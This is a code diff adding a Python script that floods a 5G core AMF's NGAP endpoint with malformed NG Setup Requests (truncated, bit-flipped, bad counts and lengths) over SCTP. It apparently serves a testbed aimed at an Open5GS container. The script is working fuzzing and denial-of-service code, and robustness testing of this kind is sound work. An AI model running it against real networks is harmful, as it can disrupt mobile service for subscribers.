@@ -0,0 +1,80 @@
+#!/usr/bin/env python3
+"""Malformed NGAP NG Setup Requests against the AMF.
+
+Opens SCTP associations to the AMF's NGAP endpoint and sends NG Setup
+Requests whose APER encoding is corrupted: truncated messages, wrong IE
+counts, oversized length determinants and flipped bits.
+
+Settings come from the environment set by the backend launcher:
+TARGET_IP (defaults to the address of open5gs-amf-ngap), PACKET_RATE and
+DURATION.
+"""
+
+import os
+import random
+import socket
+import struct
+import time
+
+AMF_HOST = "open5gs-amf-ngap"
+TARGET_IP = os.environ.get("TARGET_IP") or socket.gethostbyname(AMF_HOST)
+PACKET_RATE = int(os.environ.get("PACKET_RATE", "10"))
+DURATION = int(os.environ.get("DURATION", "0"))
+NGAP_PORT = 38412
+
+
+def ie(ie_id, criticality, value):
+    """A protocol IE: id, criticality and an open type value."""
+    return struct.pack("!HB", ie_id, criticality) + bytes([len(value)]) + value
+
+
+def ng_setup_request(gnb_id):
+    """An NG Setup Request for PLMN 001/01, TAC 1 and SST 1, APER encoded."""
+    ies = [
+        ie(27, 0x00, b"\x00\x00\x00\xf1\x10\x50" + struct.pack("!I", gnb_id)),    # GlobalRANNodeID
+        ie(102, 0x00, b"\x00\x00\x00\x00\x01\x00\x00\xf1\x10\x00\x00\x00\x08\x01"),  # SupportedTAList
+        ie(21, 0x40, b"\x40"),                                                       # DefaultPagingDRX v128
+    ]
+    value = b"\x00" + struct.pack("!H", len(ies)) + b"".join(ies)
+    return b"\x00\x15\x00" + bytes([len(value)]) + value
+
+
+def corrupt(message):
+    data = bytearray(message)
+    mutation = random.choice(["truncate", "ie_count", "length", "bitflip", "procedure"])
+    if mutation == "truncate":
+        data = data[:random.randint(1, len(data) - 1)]
+    elif mutation == "ie_count":
+        data[5:7] = struct.pack("!H", random.choice([0, 0xFFFF, random.randint(4, 64)]))
+    elif mutation == "length":
+        data[3] = random.choice([0x00, 0x7F, 0xFF])
+    elif mutation == "bitflip":
+        for _ in range(random.randint(1, 8)):
+            data[random.randrange(len(data))] ^= 1 << random.randrange(8)
+    else:
+        data[1] = random.randint(0, 255)
+    return bytes(data), mutation
+
+
+def main():
+    interval = 1.0 / PACKET_RATE if PACKET_RATE > 0 else 0
+    deadline = time.time() + DURATION if DURATION > 0 else None
+    sent = 0
+    while deadline is None or time.time() < deadline:
+        message, mutation = corrupt(ng_setup_request(random.getrandbits(32)))
+        try:
+            with socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP) as sock:
+                sock.settimeout(2)
+                sock.connect((TARGET_IP, NGAP_PORT))
+                sock.send(message)
+            sent += 1
+            if sent % 100 == 0:
+                print("sent %d malformed NG Setup Requests, last %s" % (sent, mutation), flush=True)
+        except OSError as err:
+            print("association to %s failed: %s" % (TARGET_IP, err), flush=True)
+        if interval:
+            time.sleep(interval)
+
+
+if __name__ == "__main__":
+    main()